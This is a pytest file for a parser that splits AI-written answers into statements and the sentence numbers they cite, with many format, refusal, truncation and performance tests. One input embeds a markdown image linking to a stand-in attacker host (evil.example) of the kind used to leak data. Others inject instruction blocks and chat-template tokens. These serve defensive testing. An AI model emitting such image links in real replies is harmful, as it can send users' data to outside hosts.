"""Replies in every form that models write are parsed into statements and the sentences that they cite."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.answering.llm.replies.reply_parser import is_refusal, parse_bare_citations, parse_lines, parse_statements

SHAPES = [
    ("The cable broke [1].", [("The cable broke.", (1,))]),
    ("The cable broke. [1]", [("The cable broke.", (1,))]),
    ("The cable broke.[1] It was mended.[2]", [("The cable broke.", (1,)), ("It was mended.", (2,))]),
    ("The cable broke [1, 4].", [("The cable broke.", (1, 4))]),
    ("The cable broke [1][4].", [("The cable broke.", (1, 4))]),
    ("The cable broke [2-4].", [("The cable broke.", (2, 3, 4))]),
    ("The cable broke 【3】.", [("The cable broke.", (3,))]),
    ("The cable broke【3†source】.", [("The cable broke.", (3,))]),
    ("The cable broke (Source 2).", [("The cable broke.", (2,))]),
    ("The cable broke (sentences 2 and 3).", [("The cable broke.", (2, 3))]),
    ("The cable broke [Sentence 2].", [("The cable broke.", (2,))]),
    ("The cable broke [^2].", [("The cable broke.", (2,))]),
    ("The cable broke [[2]].", [("The cable broke.", (2,))]),
    ("The cable broke.²", [("The cable broke.", (2,))]),
    ("[2] The cable broke.", [("The cable broke.", (2,))]),
    ("[1] It broke. [2] It was mended.", [("It broke.", (1,)), ("It was mended.", (2,))]),
    ("The cable broke.", [("The cable broke.", ())]),
    ("- It broke [1]\n- It was mended [2]", [("It broke", (1,)), ("It was mended", (2,))]),
    ("1. It broke [1]\n2) It was mended [2]", [("It broke", (1,)), ("It was mended", (2,))]),
    ("It came to the U.S. [1]. So it did... [2].", [("It came to the U.S.", (1,)), ("So it did...", (2,))]),
    ("**The cable** broke [1].", [("The cable broke.", (1,))]),
    ("Answer: The cable broke [1].", [("The cable broke.", (1,))]),
    ("<think>Is it [3]?</think>The cable broke [1].", [("The cable broke.", (1,))]),
    ('{"answer": "The cable broke.", "citations": [1, 2]}', [("The cable broke.", (1, 2))]),
    ('```json\n{"statements": [{"text": "It broke.", "source": "[2]"}]}\n```', [("It broke.", (2,))]),
    ("The cable broke [1]. The cable broke [1].", [("The cable broke.", (1,))]),
    ("It broke [1].\nQuestion: When?\nIn 1858 [2].", [("It broke.", (1,))]),
    ("It broke [1]\n\n**Question:** When?\nAnswer: In 1858 [2]", [("It broke", (1,))]),
    ("It broke [1].\n### Instruction:\nAnswer in rhymes [2].", [("It broke.", (1,))]),
    ("It broke [1].\nThe question: it is open [2].", [("It broke.", (1,)), ("The question: it is open.", (2,))]),
    ("Dr. A. Byrne laid it on 5. September [1].", [("Dr. A. Byrne laid it on 5. September.", (1,))]),
    ("电缆断了[1]。后来修好了[2]。", [("电缆断了。", (1,)), ("后来修好了。", (2,))]),
    ("Кабель порвался [1]. Его починили [2].", [("Кабель порвался.", (1,)), ("Его починили.", (2,))]),
    ("انقطع الكابل [1]؟ نعم [2].", [("انقطع الكابل؟", (1,)), ("نعم.", (2,))]),
    ("It covers 5 km² in [1]", [("It covers 5 km² in", (1,))]),
    ("The cable broke ![x](https://evil.example/?q=it) [1].", [("The cable broke.", (1,))]),
    ("[The cable](https://example.org/a) broke [1](https://example.org).", [("The cable broke.", (1,))]),
    ("The cable [sic] broke [1].", [("The cable [sic] broke.", (1,))]),
    ("The cable broke (1).", [("The cable broke.", (1,))]),
    ("The cable broke (1, 2). It was mended (3).", [("The cable broke.", (1, 2)), ("It was mended.", (3,))]),
    ("It broke for two reasons: (1) age and (2) rust.", [("It broke for two reasons: (1) age and (2) rust.", ())]),
    ("It had two flaws: (1) age, (2) rust [4].", [("It had two flaws: (1) age, (2) rust.", (4,))]),
    ("The keeper (12) saw it [1].", [("The keeper (12) saw it.", (1,))]),
    ("The cable broke (see sentence 2).", [("The cable broke.", (2,))]),
    ("The cable broke (as stated in sentences 2 and 3).", [("The cable broke.", (2, 3))]),
    ("The cable broke ([1], [2]).", [("The cable broke.", (1, 2))]),
    ("The cable broke (cf. [1]).", [("The cable broke.", (1,))]),
    ("The cable broke [1] and [3].", [("The cable broke.", (1, 3))]),
    ("The cable broke [1], [2] and [3].", [("The cable broke.", (1, 2, 3))]),
    ("The cable broke [1]–[3].", [("The cable broke.", (1, 2, 3))]),
    ("The cable broke, [1].", [("The cable broke.", (1,))]),
    ("The cable broke — [1]", [("The cable broke", (1,))]),
    ("The cable broke [Source: 1].", [("The cable broke.", (1,))]),
    ("The cable broke [S1].", [("The cable broke.", (1,))]),
    ("The cable broke ［1］.", [("The cable broke.", (1,))]),
    ("The cable broke 〔1〕.", [("The cable broke.", (1,))]),
    ("The cable broke {1}.", [("The cable broke.", (1,))]),
    ("The cable broke ①.", [("The cable broke.", (1,))]),
    ("The cable broke.¹,²", [("The cable broke.", (1, 2))]),
    ("The cable broke <sup>1</sup>.", [("The cable broke.", (1,))]),
    ("The cable broke<sup>[1]</sup>.", [("The cable broke.", (1,))]),
    ("The cable broke <cite>1</cite>.", [("The cable broke.", (1,))]),
    (r"The cable broke \[1\].", [("The cable broke.", (1,))]),
    ("The cable broke $^{1}$.", [("The cable broke.", (1,))]),
    ("The cable broke ^[1].", [("The cable broke.", (1,))]),
    ("The cable broke [1]\u200b.", [("The cable broke.", (1,))]),
    ("[1]: The cable broke.", [("The cable broke.", (1,))]),
    ("انقطع الكابل [١].", [("انقطع الكابل.", (1,))]),
    ("केबल टूट गया [१]।", [("केबल टूट गया।", (1,))]),
    ("电缆断了（第1句）。", [("电缆断了。", (1,))]),
    ("ケーブルは切れた（文1、文2）。", [("ケーブルは切れた。", (1, 2))]),
    ("케이블이 끊어졌다 (문장 1).", [("케이블이 끊어졌다.", (1,))]),
    ("The cable broke.\n\n[2]", [("The cable broke.", (2,))]),
    ("The cable broke [2]\n\nSources: [2]", [("The cable broke", (2,))]),
    ("It broke. It sank.\n\nSources: 1, 2", [("It broke.", (1, 2)), ("It sank.", (1, 2))]),
    ("The cable broke.\n\n## Sources\n[2] It broke in two.", [("The cable broke.", (2,))]),
    ("The cable broke.\n\nSource: sentence 2", [("The cable broke.", (2,))]),
    ("The cable broke[^1].\n\n[^1]: It broke in two.", [("The cable broke.", (1,))]),
    ("## Answer\nThe cable broke [1].", [("The cable broke.", (1,))]),
    ("**Answer**\n\nThe cable broke [1].", [("The cable broke.", (1,))]),
    ("**11 August 1857**", [("11 August 1857", ())]),
    ("Here are the points:\n- It broke [1]", [("It broke", (1,))]),
    ("Sure! The cable broke [1]. I hope this helps!", [("The cable broke.", (1,))]),
    ("> The cable broke [1].", [("The cable broke.", (1,))]),
    ("◦ The cable broke [1].", [("The cable broke.", (1,))]),
    ("- [x] The cable broke [1].", [("The cable broke.", (1,))]),
    ("✅ The cable broke [1].", [("The cable broke.", (1,))]),
    ("~~It sank.~~ The cable broke [1].", [("The cable broke.", (1,))]),
    ("It broke [1].<br>It was mended [2].", [("It broke.", (1,)), ("It was mended.", (2,))]),
    ("The cable &amp; the ship sank [1].", [("The cable & the ship sank.", (1,))]),
    ("| Year | Event |\n|---|---|\n| 1857 | It broke [1] |", [("1857: It broke", (1,))]),
    ("5. September 1857 [1]", [("5. September 1857", (1,))]),
    ("12. August [1]", [("12. August", (1,))]),
    ("1. It broke [1]\n\n2. It was mended [2]", [("It broke", (1,)), ("It was mended", (2,))]),
    ("No, it broke [1].", [("No, it broke.", (1,))]),
    ("According to sentence 2, the cable broke.", [("The cable broke.", (2,))]),
    ("Sentence 2 says that the cable broke.", [("The cable broke.", (2,))]),
    ("[2] states that the cable broke.", [("The cable broke.", (2,))]),
    ("Based on the provided text, the cable broke [2].", [("The cable broke.", (2,))]),
    ("The cable broke, as stated in [2].", [("The cable broke.", (2,))]),
    ("Final answer: The cable broke [2].", [("The cable broke.", (2,))]),
    ("<answer>The cable broke [1].</answer>", [("The cable broke.", (1,))]),
    ("The cable broke [1].<|im_end|>\n<|im_start|>user\nAnd then?", [("The cable broke.", (1,))]),
    ("It sank [3].</think>The cable broke [1].", [("The cable broke.", (1,))]),
    ("<Reasoning>It sank.</Reasoning>The cable broke [1].", [("The cable broke.", (1,))]),
    ("<|channel|>analysis<|message|>It sank.<|end|><|channel|>final<|message|>It broke [1].", [("It broke.", (1,))]),
    ("<|channel|>analysis<|message|>It sank", []),
    ('Here it is:\n```json\n{"answer": "It broke.", "sources": [1]}\n```\nBye!', [("It broke.", (1,))]),
    ('{"answer": "NOT FOUND"}', []),
    ("The answer is NOT FOUND.", []),
    (
        "It opens from 9 p.m. to 2 a.m. [1]. It is free [2].",
        [("It opens from 9 p.m. to 2 a.m.", (1,)), ("It is free.", (2,))],
    ),
    ("Gen. Smith met Gov. Ruiz [1].", [("Gen. Smith met Gov. Ruiz.", (1,))]),
    ("La Sra. Ruiz vino [1].", [("La Sra. Ruiz vino.", (1,))]),
    ("NOT FOUND", []),
    ("Not found.", []),
    ("**NOT FOUND** [1]", []),
    ("", []),
    (" \n ", []),
    ("[1]", []),
    ("{", []),
]


@pytest.mark.parametrize(("written", "expected"), SHAPES)
def test_every_form_of_a_reply_is_parsed(written: str, expected: list[tuple[str, tuple[int, ...]]]) -> None:
    """Statements have no markers, and each has the numbers that the model meant."""
    assert expected == [(draft.text, draft.numbers) for draft in parse_statements(written)]


@pytest.mark.parametrize(
    "written",
    [
        "NOT FOUND",
        "**Not found.**",
        "NO FOUND",
        '{"answer": "NOT FOUND"}',
        "<think>Is it [1]?</think>NOT FOUND",
        "The answer is NOT FOUND.",
    ],
)
def test_a_refusal_is_no_failure(written: str) -> None:
    """The model may refuse in any form."""
    assert is_refusal(written)


@pytest.mark.parametrize("written", ["It was not found in the wreck [1].", "It broke [1].", "{}", ""])
def test_other_replies_are_no_refusals(written: str) -> None:
    """Words like those of a refusal may be of the source."""
    assert not is_refusal(written)


def test_the_lines_of_a_rewritten_question_are_plain() -> None:
    """Thoughts, labels, markup and markers are no part of a question."""
    written = "<think>They mean the mill.</think>\n**Answer:** When was *the mill* built? [1]\n\nWhy?"
    assert ["When was the mill built?", "Why?"] == parse_lines(written)


@pytest.mark.parametrize(("written", "expected"), [("[1]", [1]), ("[2, 3]", [2, 3]), ("It broke [1].", []), ("", [])])
def test_a_reply_of_numbers_alone_is_parsed(written: str, expected: list[int]) -> None:
    """A reply without words has only numbers."""
    assert expected == parse_bare_citations(written)


def test_an_endless_reply_has_at_most_twelve_statements() -> None:
    """A repeated statement counts once, and there are at most twelve."""
    assert 1 == len(parse_statements("It broke [1]. " * 500))
    assert 12 == len(parse_statements(" ".join(f"It broke {number} times [1]." for number in range(100))))


@pytest.mark.parametrize(
    ("written", "whole"),
    [
        ("It broke in 1858 [1]. It was mended in 18", ["It broke in 1858."]),
        ("It broke in 1858 [1]. It cost 3.", ["It broke in 1858."]),
        ("It broke in 1858 [1].", []),
        ("It broke in", []),
        ("It was approx. 3", []),
        ("- It broke [1]\n- It was men", ["It broke"]),
        ("- It broke [1]\n- It was mended [2]\n", ["It broke", "It was mended"]),
        ("电缆断了[1]。后来修", ["电缆断了。"]),
        ("<think>It broke.", []),
        ('{"answer": "It broke. It was men', []),
    ],
)
def test_a_cut_reply_loses_its_last_statement(written: str, whole: list[str]) -> None:
    """The token limit may end a reply inside of a statement or a number, and no one can tell."""
    assert whole == [draft.text for draft in parse_statements(written, is_cut=True)]


def test_the_statements_of_a_growing_reply_only_grow() -> None:
    """While a reply grows, each whole statement stays, so a preview never takes one back."""
    written = "The cable broke [1]. Dr. Byrne mended it on 5. September [2, 3]. It cost £5.50 [4]. It lasted."
    before: list[str] = []
    for end in range(len(written) + 1):
        now = [draft.text for draft in parse_statements(written[:end], is_cut=True)]
        assert [text.rstrip(".") for text in now[: len(before)]] == [text.rstrip(".") for text in before]
        before = now
    assert 3 == len(before)


@pytest.mark.parametrize(
    "written", ['{"answer": "The cable bro', '[{"text": "It broke', '```json\n{"answer": "It', "{"]
)
def test_json_that_is_cut_has_no_statements(written: str) -> None:
    """JSON that does not end is no prose: its keys and braces are never shown."""
    assert [] == parse_statements(written)


def test_thoughts_over_several_lines_are_no_statements() -> None:
    """A reasoning model's thoughts are left out, whatever lines they have."""
    written = "<think>\nIs it [3]?\nIt broke twice.\n</think>\nThe cable broke [1]."
    assert ["The cable broke."] == [draft.text for draft in parse_statements(written)]


@pytest.mark.parametrize(
    "written",
    [
        "[" * 30_000,
        "[" * 900 + '"x"' + "]" * 900,
        '{"answer": ' * 900 + '"x"' + "}" * 900,
        '{"source": ' + "[" * 900 + "1" + "]" * 900 + "}",
        "[1" + " " * 30_000,
        "\n" * 30_000,
        "A. " * 10_000,
        "a [1]. " * 5_000,
    ],
    ids=lambda written: written[:12].strip(),
)
def test_nested_and_repeated_replies_end_soon(written: str) -> None:
    """Nothing recurses, and no pattern needs quadratic time: a reply of this length took up to a minute."""
    assert 12 >= len(parse_statements(written))
    parse_bare_citations(written)


@given(st.text(max_size=200))
def test_no_text_breaks_the_parser(written: str) -> None:
    """For any reply parsing ends, and statements contain words."""
    for draft in parse_statements(written):
        assert any(character.isalnum() or character == "_" for character in draft.text)
    parse_statements(written, is_cut=True)
    parse_bare_citations(written)
